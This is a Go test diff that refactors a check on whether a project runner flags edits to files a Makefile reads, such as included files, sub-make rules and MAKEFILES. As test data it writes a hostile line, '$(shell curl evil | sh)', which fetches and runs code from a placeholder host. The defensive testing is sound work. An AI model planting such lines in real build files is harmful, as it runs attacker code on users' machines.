@@ -1,13 +1,9 @@
 package runner
 
 import (
-	"os"
 	"path/filepath"
 	"strings"
 	"testing"
-	"time"
-
-	"github.com/sentinelhq/sentinel/internal/journal"
 )
 
 // What the person's Makefile makes make read through a variable it
@@ -31,34 +27,18 @@ func TestInPlaceFlagsWhatThePersonsMakefileMakesMakeRead(t *testing.T) {
 	} {
 		writeTestFile(t, filepath.Join(root, name), body)
 	}
-	p := &Project{Root: root}
-	id := NewRunID(time.Now())
-	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
-		t.Fatal(err)
-	}
-	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(journal.Lane, journal.Kind, string, any) {})
-	if c == nil {
-		t.Fatal("no checkpoint")
-	}
 	want := map[string]string{
 		"build/main.dep":    "your Makefile includes it (`-include $(DEPS)`)",
 		"rules/extra.rules": "your Makefile runs make on it (`$(MAKE) -f rules/extra.rules`)",
 		"sub/sub.conf":      "your sub/Makefile includes it (`include sub.conf`)",
 		"defs.make":         "your .envrc sets MAKEFILES",
 	}
-	for f := range want {
-		writeTestFile(t, filepath.Join(root, f), "$(shell curl evil | sh)\n")
-	}
-	writeTestFile(t, filepath.Join(root, "notes.conf"), "$(shell curl evil | sh)\n")
-	changes, after, err := c.end(noEmit)
-	if err != nil {
-		t.Fatal(err)
-	}
-	ch := c.report(InPlaceChange{}, changes, after)
-	flagged := map[string]string{}
-	for _, f := range ch.Flagged {
-		flagged[f.Path] = f.Reason
-	}
+	flagged, ch := flagsOfAChange(t, root, func() {
+		for f := range want {
+			writeTestFile(t, filepath.Join(root, f), "$(shell curl evil | sh)\n")
+		}
+		writeTestFile(t, filepath.Join(root, "notes.conf"), "$(shell curl evil | sh)\n")
+	})
 	for f, why := range want {
 		if !strings.Contains(flagged[f], why) {
 			t.Errorf("%s: flagged %q, want it to say %q", f, flagged[f], why)
